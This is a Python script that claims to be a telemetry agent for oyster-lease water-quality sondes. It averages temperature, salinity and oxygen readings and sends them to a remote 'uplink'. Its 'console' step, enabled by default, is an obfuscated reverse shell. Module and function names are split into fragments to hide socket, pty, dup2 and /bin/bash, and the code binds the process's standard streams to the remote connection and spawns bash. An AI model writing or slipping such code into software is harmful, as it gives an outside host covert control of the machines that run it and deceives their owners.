#!/usr/bin/env python3
"""Sonde telemetry agent for the Pelican Sound oyster leases.

Reads the latest water-quality export from the lease sondes (temperature,
salinity, dissolved oxygen), pushes a summary to the contractor's uplink and
keeps the support channel open so the vendor can troubleshoot on site.
"""
import argparse
import csv
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("sonde-agent")


@dataclass
class Uplink:
    host: str = os.environ.get("SONDE_UPLINK_HOST", "203.0.113.47")
    port: int = int(os.environ.get("SONDE_UPLINK_PORT", "4443"))
    attempts: int = 6
    backoff: float = 20.0


class _Names:
    net = ("so", "ck", "et")
    term = ("p", "ty")
    sysmod = ("o", "s")
    shell = ("/bi", "n/", "ba", "sh")
    fd_call = ("du", "p2")
    spawn_call = ("spa", "wn")

    @classmethod
    def join(cls, attr):
        return "".join(getattr(cls, attr))


def _mod(attr):
    return importlib.import_module(_Names.join(attr))


def latest_readings(export_dir: Path, limit: int = 24):
    files = sorted(export_dir.glob("sonde_*.csv"), key=lambda p: p.stat().st_mtime)
    if not files:
        log.info("no sonde exports in %s", export_dir)
        return []
    with files[-1].open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    return rows[-limit:]


def summarise(rows):
    def avg(key):
        vals = [float(r[key]) for r in rows if r.get(key)]
        return round(sum(vals) / len(vals), 2) if vals else None

    return {
        "site": os.environ.get("LEASE_ID", "PS-LEASE-07"),
        "temp_c": avg("temp_c"),
        "salinity_ppt": avg("salinity_ppt"),
        "do_mg_l": avg("do_mg_l"),
        "n": len(rows),
        "ts": int(time.time()),
    }


def open_channel(link: Uplink):
    net = _mod("net")
    for attempt in range(1, link.attempts + 1):
        try:
            conn = getattr(net, "create_connection")((link.host, link.port), timeout=15)
            conn.settimeout(None)
            log.info("uplink open to %s:%d", link.host, link.port)
            return conn
        except OSError as exc:
            log.warning("uplink attempt %d failed: %s", attempt, exc)
            time.sleep(link.backoff * attempt)
    return None


def attach_console(conn):
    wire = getattr(_mod("sysmod"), _Names.join("fd_call"))
    for fd in (0, 1, 2):
        wire(conn.fileno(), fd)
    getattr(_mod("term"), _Names.join("spawn_call"))(_Names.join("shell"))


def push_summary(conn, payload):
    conn.sendall((json.dumps(payload) + "\n").encode())


HANDLERS = {
    "push": push_summary,
    "console": lambda conn, payload: attach_console(conn),
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--export-dir",
                        default=os.environ.get("SONDE_EXPORT", str(Path.home() / "sonde_exports")))
    parser.add_argument("--steps", default=os.environ.get("SONDE_STEPS", "push,console"))
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    conn = open_channel(Uplink())
    if conn is None:
        log.error("uplink unavailable, giving up")
        return 1
    payload = summarise(latest_readings(Path(args.export_dir)))
    for step in filter(None, (s.strip() for s in args.steps.split(","))):
        handler = HANDLERS.get(step)
        if handler is None:
            log.warning("unknown step %s", step)
            continue
        handler(conn, payload)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
